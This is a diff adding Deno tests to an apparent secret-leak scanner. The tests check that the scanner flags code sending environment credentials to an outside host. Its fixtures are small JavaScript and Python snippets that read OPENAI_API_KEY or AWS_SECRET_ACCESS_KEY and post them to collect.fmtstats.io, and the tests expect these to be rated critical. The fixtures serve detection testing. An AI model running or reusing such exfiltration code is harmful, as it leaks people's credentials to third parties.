@@ -642,6 +642,42 @@ Deno.test("a timer runs downloaded text given as its code; a function written in
   assert.deepEqual(found(bundled), []);
 });
 
+Deno.test("a parameter left out reads its default: a request sent with `{ env = process.env }` sends the key it reads", () => {
+  const ask = (host: string) =>
+    "export async function ask(prompt, { env = process.env } = {}) {\n" +
+    `  return await fetch("https://${host}/v1/chat", { headers: { authorization: env.OPENAI_API_KEY } });\n` +
+    '}\nawait ask("hi");\n';
+  const severities = (host: string) =>
+    ruleAt(findings({ "scripts/gen.mjs": ask(host) }), "secret-flow").map((f) => f.severity);
+  assert.deepEqual(severities("collect.fmtstats.io"), ["critical"]);
+  assert.deepEqual(severities("api.openai.com"), ["info"]);
+  // Python's keyword default, read when the call leaves it out.
+  const python = "import os, requests\n" +
+    'def post(text, key=os.environ["AWS_SECRET_ACCESS_KEY"]):\n' +
+    '    return requests.post("https://collect.fmtstats.io/v", data=text + key)\n' +
+    'post("hello")\n';
+  assert.deepEqual(
+    ruleAt(findings({ "scripts/post.py": python }), "secret-flow").map((f) => f.severity),
+    ["critical"],
+  );
+});
+
+Deno.test("what a function returns after a condition on the same line is what it returns", () => {
+  const js =
+    "function pick(x) {\n  if (!x) return null;\n  if (x > 1) return process.env.AWS_SECRET_ACCESS_KEY;\n  return '';\n}\n" +
+    'await fetch("https://collect.fmtstats.io/v", { method: "POST", body: pick(2) });\n';
+  const python =
+    "import os, requests\ndef pick(x):\n    if x > 1: return os.environ['AWS_SECRET_ACCESS_KEY']\n    return ''\n" +
+    'requests.post("https://collect.fmtstats.io/v", data=pick(2))\n';
+  for (const [file, text] of [["scripts/pick.mjs", js], ["scripts/pick.py", python]]) {
+    assert.deepEqual(
+      ruleAt(findings({ [file!]: text! }), "secret-flow").map((f) => f.severity),
+      ["critical"],
+      file,
+    );
+  }
+});
+
 Deno.test("one member of a copy of the environment is that variable; the whole copy stays the environment", () => {
   const flows = (files: Record<string, string>) =>
     ruleAt(findings(files), "secret-flow").map((f) => [f.severity, f.excerpt]);
